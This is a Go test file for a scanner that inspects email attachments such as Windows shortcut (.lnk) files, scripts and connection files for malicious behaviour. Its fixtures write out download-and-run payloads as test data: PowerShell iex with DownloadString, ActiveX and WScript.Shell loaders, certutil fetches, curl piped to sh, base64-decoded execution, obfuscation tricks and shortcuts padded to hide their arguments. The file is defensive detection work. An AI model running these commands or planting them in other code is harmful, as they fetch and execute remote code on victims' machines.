package script

import (
	"context"
	"encoding/binary"
	"io"
	"slices"
	"strings"
	"testing"

	"rastel/sanitize/eml"
	"rastel/scanners"
)

// told are the findings about a part, "check: detail".
func told(t testing.TB, p *eml.Part) (list []string) {
	t.Helper()
	findings, err := Scanner{}.Scan(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range findings {
		list = append(list, f.Check+": "+f.Detail)
	}
	return list
}

// wantTold fails unless the checks behind the first one are those, and their details say what is wanted:
// "check says this".
func wantTold(t *testing.T, why string, list []string, want ...string) {
	t.Helper()
	ok := len(list) == len(want)+1 || len(list) == len(want) && len(want) == 0
	for i := 0; ok && i < len(want); i++ {
		check, says, _ := strings.Cut(want[i], " ")
		ok = strings.HasPrefix(list[i+1], check+": ") && strings.Contains(list[i+1], says)
	}
	if !ok {
		t.Errorf("%s: got\n%s\nwant behind the first\n%s", why, strings.Join(list, "\n"), strings.Join(want, "\n"))
	}
}

// itemList is a list of shell items: a drive and entries with a short and a long name.
func itemList(names ...[2]string) string {
	var b []byte
	item := func(content []byte) {
		b = append(binary.LittleEndian.AppendUint16(b, uint16(len(content)+2)), content...)
	}
	item(append([]byte{0x2f}, "C:\\\x00"...))
	for _, n := range names {
		content := append(make([]byte, 12), n[0]...)
		content[0] = 0x32
		content = append(content, 0)
		block := make([]byte, 46)
		binary.LittleEndian.PutUint16(block[2:], 9)
		copy(block[4:], "\x04\x00\xef\xbe")
		item(slices.Concat(content, block, wide(n[1]), []byte{0, 0}))
	}
	b = append(b, 0, 0)
	return string(binary.LittleEndian.AppendUint16(nil, uint16(len(b)))) + string(b)
}

// withFlags is a shortcut with those parts behind its header.
func withFlags(flags uint32, window uint32, parts ...string) string {
	header := []byte(shortcutFile("", "", "")[:linkHeader])
	binary.LittleEndian.PutUint32(header[20:], flags)
	binary.LittleEndian.PutUint32(header[60:], window)
	return string(header) + strings.Join(parts, "") + "\x00\x00\x00\x00"
}

// counts is a text with its length.
func countedText(s string) string {
	return string(binary.LittleEndian.AppendUint16(nil, uint16(len(s)))) + string(wide(s))
}

// network is a LinkInfo with a share and a path on it.
func network(share, path string) string {
	le := binary.LittleEndian
	const head = 28
	net := append(make([]byte, 20), share+"\x00"...)
	le.PutUint32(net, uint32(len(net)))
	le.PutUint32(net[8:], 20)
	b := make([]byte, head)
	le.PutUint32(b, uint32(head+len(net)+len(path)+1))
	le.PutUint32(b[4:], head)
	le.PutUint32(b[8:], 2)
	le.PutUint32(b[20:], head)
	le.PutUint32(b[24:], uint32(head+len(net)))
	return string(b) + string(net) + path + "\x00"
}

func TestTellsWhatShortcutsDo(t *testing.T) {
	power := itemList([2]string{"WINDOWS", "Windows"}, [2]string{"POWERS~1.EXE", "powershell.exe"})
	iconFrom := func(path string) string {
		block := make([]byte, 4+4+260+520)
		binary.LittleEndian.PutUint32(block, uint32(len(block)))
		binary.LittleEndian.PutUint32(block[4:], iconBlock)
		copy(block[8+260:], wide(path))
		return string(block)
	}
	for _, c := range []struct {
		why, content string
		want         []string
	}{
		{"cmd", shortcutFile("/c start a.pdf.exe", "", ""), []string{"lnk/command has cmd carry out /c start a.pdf.exe, in a window that is not seen"}},
		{"environment", shortcutFile("-ep bypass", `%windir%\System32\WindowsPowerShell\v1.0\powershell.exe`, ""), []string{"lnk/command has powershell carry out -ep bypass"}},
		{"items", withFlags(hasIDList|hasArguments|isUnicode, 1, power, countedText("-enc AAAA")), []string{"lnk/command has powershell carry out -enc AAAA"}},
		{"padded (CVE-2025-9491)", shortcutFile(strings.Repeat("\r\n\t ", 20)+"/c x", "", ""), []string{"lnk/command /c x", "lnk/hidden-arguments arguments of 84 characters, not all of which are shown: /c x"}},
		{"icon on a server", shortcutFile("/c x", "", `\\203.0.113.9\a\b.ico`), []string{"lnk/command", `lnk/server contacts \\203.0.113.9\a\b.ico`}},
		{"icon on a server, in a block", withFlags(hasArguments|isUnicode, 1, countedText("x"), iconFrom(`\\203.0.113.9\i.ico`)), []string{`lnk/server contacts \\203.0.113.9\i.ico`}},
		{"target on a server", withFlags(hasLinkInfo, 1, network(`\\203.0.113.9\share`, `a.exe`)), []string{`lnk/server contacts \\203.0.113.9\share\a.exe`}},
		{"with something behind", shortcutFile("/c x", "", "") + "more bytes", []string{"lnk/command", "lnk/overlay 10 bytes behind its end"}},
		{"a document", withFlags(hasIDList, 1, itemList([2]string{"REPORT~1.DOC", "Report of May.docx"})), nil},
		{"a program without arguments", withFlags(hasIDList, 1, power), nil},
	} {
		list := told(t, member(t, "a.lnk", c.content))
		if c.want == nil {
			if len(list) != 1 {
				t.Errorf("%s: got %q", c.why, list)
			}
			continue
		}
		wantTold(t, c.why, list, c.want...)
	}
}

// TestLongNamesOfShortcuts makes sure that what is told is the name that people see.
func TestLongNamesOfShortcuts(t *testing.T) {
	list := told(t, member(t, "a.lnk", withFlags(hasIDList, 1, itemList([2]string{"REPORT~1.DOC", "Report of May.docx"}))))
	if len(list) != 1 || !strings.Contains(list[0], `starts C:\Report of May.docx`) {
		t.Errorf("got %q", list)
	}
}

// overlays are what Expand yields.
func overlays(t testing.TB, content string) (list []string) {
	t.Helper()
	b := scanners.NewBudget(scanners.BudgetLimits{}, eml.SpoolOptions{})
	_, err := Scanner{}.Expand(context.Background(), member(t, "a.lnk", content), b, func(m *eml.Part) error {
		defer m.Release()
		c, err := io.ReadAll(m.Content())
		list = append(list, string(c))
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return list
}

func TestYieldsWhatIsBehindShortcuts(t *testing.T) {
	lnk := shortcutFile("/c x", "", "")
	for behind, want := range map[string][]string{
		"MZ and the rest of a program":     {"MZ and the rest of a program"},
		"short":                            nil,
		"":                                 nil,
		strings.Repeat("long ", maxLink/2): {strings.Repeat("long ", maxLink/2)},
	} {
		if got := overlays(t, lnk+behind); !slices.Equal(got, want) {
			t.Errorf("got %.50q, want %.50q", got, want)
		}
	}
	if got := overlays(t, lnk[:100]); len(got) > 0 {
		t.Errorf("of a damaged one: %q", got)
	}
}

// FuzzLink holds shortcuts to what is promised of them: what is behind the end is just that, findings are
// short, and nothing else comes of it.
func FuzzLink(f *testing.F) {
	f.Add(shortcutFile("/c x", "%x%", "y"))
	f.Add(shortcutFile(strings.Repeat(" ", 300), "", `\\a\b`) + "more bytes than sixteen")
	f.Add(withFlags(hasIDList|hasLinkInfo|hasArguments|isUnicode, 7, itemList([2]string{"A~1", "a"}), network(`\\a\b`, "c"), countedText("x")))
	f.Fuzz(func(t *testing.T, content string) {
		content = shortcutFile("", "", "")[:20] + content
		p := member(t, "a.lnk", content)
		if p.Type != "lnk" {
			return
		}
		l := readLink(strings.NewReader(content), int64(len(content)))
		if l.behind < 0 || l.behind > 0 && (l.damaged || l.end < linkHeader || l.end+l.behind != int64(len(content))) {
			t.Errorf("ends at %d, %d bytes behind, damaged %v, of %d", l.end, l.behind, l.damaged, len(content))
		}
		want := []string(nil)
		if l.behind >= minOverlay {
			want = []string{content[l.end:]}
		}
		if got := overlays(t, content); !slices.Equal(got, want) {
			t.Errorf("yields %q, want %q", got, want)
		}
		known := Scanner{}.Checks()
		for _, s := range told(t, p) {
			check, _, _ := strings.Cut(s, ":")
			if len(s) > 8<<10 || !slices.ContainsFunc(known, func(c eml.Check) bool { return c.ID == check }) {
				t.Errorf("finding of %d bytes: %.100q", len(s), s)
			}
		}
	})
}

// furtherCases are scripts, and what is said of them besides their kind.
var furtherCases = []struct {
	why, name, content string
	want               []string
}{
	{"PowerShell", "a.ps1", "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')\n", []string{"script/download-run downloads (net.webclient, downloadstring) from http://203.0.113.9/p, and runs it by iex"}},
	{"JavaScript", "a.js", "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://203.0.113.9/a');new ActiveXObject('WScript.Shell').Run('a')",
		[]string{"script/download-run downloads (msxml2.xmlhttp) from http://203.0.113.9/a, and runs it by wscript.shell"}},
	{"Visual Basic", "a.vbs", "Set x = CreateObject(\"WinHttp.WinHttpRequest\")\nx.open \"GET\", \"http://203.0.113.9/a\"\nCreateObject(\"WScript.Shell\").Run \"a\"\n", []string{"script/download-run"}},
	{"batch", "a.bat", "certutil -urlcache -f http://203.0.113.9/a.exe a.exe\r\ncmd /c a.exe\r\n", []string{"script/download-run downloads (certutil)"}},
	{"HTML application", "a.hta", "<script>x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://203.0.113.9/a');new ActiveXObject('WScript.Shell').Run('a')</script>", []string{"script/download-run"}},
	{"Windows Script File", "a.wsf", "<job><script language=\"JScript\">x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://203.0.113.9/a');new ActiveXObject('WScript.Shell').Run('a')</script></job>",
		[]string{"script/download-run"}},
	{"a program in base64", "a.ps1", "$x='" + strings.Repeat("TVqQ", 200) + "';iex ([Convert]::FromBase64String($x))\n",
		[]string{"script/download-run decodes (frombase64string) 800 bytes that it carries", "script/obfuscated 800 bytes are encoded, and decoded by frombase64string"}},
	{"a text that says how", "howto.txt", "New-Object Net.WebClient, Write-Host and ForEach-Object:\niex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')\n", []string{}},
	{"an installer for Unix", "install.sh", "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", []string{}},
	{"a script that only copies", "copy.bat", "@echo off\r\ncopy a b\r\ncmd /c dir\r\n", []string{}},
	{"broken words", "a.cmd", strings.Repeat("p^o^w^e^r^s^h^e^l^l x\r\n", 3), []string{"script/obfuscated words are broken by ^ or ` (27 times)"}},
	{"pieces of variables", "a.bat", "set a=abcdefgh\r\n" + strings.Repeat("%a:~1,1%", 9) + "\r\n", []string{"script/obfuscated pieces of variables (9 times)"}},
	{"numbers", "a.vbs", "x = " + strings.Repeat("Chr(65) & ", 30) + "\"\"\r\n", []string{"script/obfuscated numbers (30 times)"}},
	{"short strings", "a.js", "var x='a'" + strings.Repeat("+'b'", 30) + ";", []string{"script/obfuscated short strings"}},
	{"encoded", "a.vbe", "#@~^XAAAAA==\x7f&PKDX~,^#~@", []string{"script/obfuscated Script Encoder"}},
	{"a script like any other", "a.js", "var x = 'a' + b + 'c'; var y = '\\x41';\n", []string{}},
}

func TestTellsMoreOfScripts(t *testing.T) {
	for _, c := range furtherCases {
		list := told(t, member(t, c.name, c.content))
		if len(list) == 0 {
			t.Errorf("%s: nothing is found", c.why)
			continue
		}
		if len(c.want) == 0 {
			if len(list) != 1 {
				t.Errorf("%s: got %q", c.why, list)
			}
			continue
		}
		wantTold(t, c.why, list, c.want...)
	}
}

func TestConnections(t *testing.T) {
	for _, s := range []struct{ name, content, want string }{
		{"a.rdp", inUTF16("full address:s:203.0.113.9\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nremoteapplicationprogram:s:||x\r\n"),
			"script/remote-desktop: a connection by Remote Desktop: connects to 203.0.113.9; hands over the disks *; hands over the clipboard; shows the program ||x"},
		{"a.rdp", "full address:s:host.example.org\r\ndrivestoredirect:s:\r\nredirectclipboard:i:0\r\n", "script/remote-desktop: a connection by Remote Desktop: connects to host.example.org"},
		{"a.iqy", "WEB\r\n1\r\nhttp://203.0.113.9/a\r\n", "script/web-query: a query of Excel: asks http://203.0.113.9/a"},
		{"a.appref-ms", inUTF16("https://203.0.113.9/a.application#a.application, Culture=neutral\r\n"), "script/shortcut: a shortcut: starts the application https://203.0.113.9/a.application#a.application, Culture=neutral"},
		{"a.search-ms", `<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\203.0.113.9\x"/></scope></query></persistedQuery>`, `script/shortcut: a saved search: asks \\203.0.113.9\x`},
		{"a.search-ms", `<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="C:\x"/></scope></query></persistedQuery>`, ""},
		{"a.website", "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://203.0.113.9/x.hta\r\n", `script/shortcut: a shortcut: opens file://203.0.113.9/x.hta; contacts file://203.0.113.9/x.hta`},
	} {
		if got := strings.Join(told(t, member(t, s.name, s.content)), "\n"); got != s.want {
			t.Errorf("%s: got %q, want %q", s.name, got, s.want)
		}
	}
}
